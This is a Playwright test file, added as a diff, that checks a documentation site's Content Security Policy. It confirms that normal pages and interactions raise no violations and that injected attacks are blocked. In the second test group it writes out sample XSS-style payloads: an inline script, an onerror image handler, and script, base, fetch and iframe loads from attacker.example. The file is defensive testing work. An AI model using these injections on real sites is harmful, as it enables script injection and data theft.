@@ -1,0 +1,119 @@
+import type { Page } from '@playwright/test';
+import { openApp } from './faults';
+import { PAGES } from './pages';
+import { expect, test } from './test';
+
+/** Reports what the policy blocks as an error, which fails the test. */
+async function watch(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', (event) => {
+      const { violatedDirective, blockedURI, sourceFile } = event;
+      console.error('blocked', violatedDirective, blockedURI, sourceFile);
+    });
+  });
+}
+
+const kinds = {
+  ...PAGES,
+  compare: 'compare/?from=0.6.0&to=0.8.0',
+  symbols: 'docs/api/symbols/',
+};
+
+test.describe('the security policy lets work', () => {
+  test.beforeEach(async ({ page }) => {
+    await watch(page);
+  });
+
+  for (const [kind, path] of Object.entries(kinds)) {
+    test(`the page: ${kind}`, async ({ page }) => {
+      await openApp(page, path);
+      await page.mouse.wheel(0, 2000);
+      await page.waitForLoadState('networkidle');
+    });
+  }
+
+  test('search, menus, colours and the way to another page', async ({
+    page,
+  }) => {
+    await openApp(page, PAGES.module);
+    await page.keyboard.press('Control+K');
+    const dialog = page.getByRole('dialog');
+    await dialog.getByRole('combobox').fill('captions');
+    await expect(dialog.getByRole('option').first()).toBeVisible();
+    await page.keyboard.press('Escape');
+    await page.getByRole('button', { name: /switch between dark/i }).click();
+    await page.getByRole('button', { name: 'Version' }).click();
+    await page
+      .getByRole('complementary')
+      .getByRole('link', { name: 'Keyboard', exact: true })
+      .click();
+    await expect(
+      page.getByRole('heading', { level: 1, name: 'Keyboard' }),
+    ).toBeVisible();
+  });
+
+  test('a redirect', async ({ page }) => {
+    await page.goto('docs/');
+    await expect(page).toHaveURL(/quick-start-guide\/$/);
+    await page.waitForLoadState('networkidle');
+  });
+});
+
+test.describe('the security policy blocks', () => {
+  const attacks = {
+    'a script in the page': () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.documentElement.dataset.attack = "won"';
+      document.body.append(script);
+    },
+    'a script of another site': () => {
+      const script = document.createElement('script');
+      script.src = 'https://attacker.example/a.js';
+      document.body.append(script);
+    },
+    'a handler in markup': () => {
+      const image =
+        '<img src="data:," onerror="document.documentElement.dataset.attack = \'won\'">';
+      document.body.insertAdjacentHTML('beforeend', image);
+    },
+    'a new base': () => {
+      const base = document.createElement('base');
+      base.href = 'https://attacker.example/';
+      document.head.append(base);
+    },
+    'a request elsewhere': () => {
+      void fetch('https://attacker.example/').catch(() => undefined);
+    },
+    'a frame': () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://attacker.example/';
+      document.body.append(frame);
+    },
+  };
+
+  for (const [name, attack] of Object.entries(attacks)) {
+    test(name, async ({ browser, baseURL }) => {
+      // Its own page: what is blocked is logged as an error.
+      const page = await browser.newPage({ baseURL: baseURL ?? '' });
+      await page.route('https://attacker.example/**', (route) =>
+        route.fulfill({
+          contentType: 'text/javascript',
+          body: 'document.documentElement.dataset.attack = "won"',
+        }),
+      );
+      await openApp(page, PAGES.module);
+      const blocked = page.evaluate(
+        () =>
+          new Promise<string>((resolve) => {
+            addEventListener('securitypolicyviolation', (event) => {
+              resolve(event.effectiveDirective);
+            });
+          }),
+      );
+      await page.evaluate(attack);
+      expect(await blocked).toMatch(/^(script|base|connect|frame)/);
+      await expect(page.locator('html')).not.toHaveAttribute('data-attack');
+      await page.close();
+    });
+  }
+});
